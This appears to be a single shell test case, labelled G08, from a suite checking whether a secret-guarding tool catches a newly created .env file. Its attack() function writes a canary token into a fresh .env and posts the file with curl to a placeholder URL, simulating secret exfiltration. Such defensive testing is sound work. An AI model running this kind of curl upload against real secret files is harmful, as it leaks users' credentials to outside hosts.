# SPDX-License-Identifier: Apache-2.0
TITLE="a .env made a moment ago, after the guard has started"
ROW="G08"
CLASS=dotenv SECRET=/fresh/.env
attack() {
	mkdir -p "$HOME/work/fresh"
	echo "TOKEN=$CANARY" >"$HOME/work/fresh/.env"
	curl -s -m 5 --data-binary @"$HOME/work/fresh/.env" "$URL/"
}
